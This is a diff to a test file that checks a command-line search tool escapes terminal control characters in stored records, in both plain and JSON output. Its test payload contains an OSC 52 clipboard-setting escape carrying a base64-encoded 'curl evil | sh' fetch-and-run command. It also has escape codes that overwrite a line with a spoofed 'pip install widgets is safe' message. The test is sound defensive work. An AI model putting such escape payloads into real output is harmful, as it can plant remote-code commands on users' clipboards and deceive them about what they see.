@@ -81,7 +81,7 @@ describe("search and lookup", () => {
     // set the clipboard (OSC 52) of the person reading the results.
     const ESC = "\u001b";
     const hostile = sampleTrail({ error: `ImportError: frob ${ESC}[2J${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\u0007` });
-    hostile.solution.summary = `Upgrade widgets.${ESC}[1A${ESC}[2K pip install widgets is safe`;
+    hostile.solution.summary = `Upgrade widgets.${ESC}[1A${ESC}[2K\u009b8m pip install widgets is safe`;
     const res = await colony.fetch("/v1/trails", {
       method: "POST",
       headers: { "content-type": "application/json" },
@@ -93,7 +93,11 @@ describe("search and lookup", () => {
     expect(r.code).toBe(0);
     expect(r.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
     expect(r.stdout).toContain("ImportError: frob <U+001B>[2J<U+001B>]52;c;");
-    expect(r.stdout).toContain("Upgrade widgets.<U+001B>[1A<U+001B>[2K pip install");
+    expect(r.stdout).toContain("Upgrade widgets.<U+001B>[1A<U+001B>[2K<U+009B>8m pip install");
+    // --json is JSON, with the 8-bit controls escaped too (JSON.stringify leaves them raw).
+    const j = await run(["search", "ImportError: frob", "--json"]);
+    expect(j.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
+    expect(JSON.parse(j.stdout).results[0].trail.solution.summary).toBe(hostile.solution.summary);
   });
 
   test("search --json: the API's envelope", async () => {
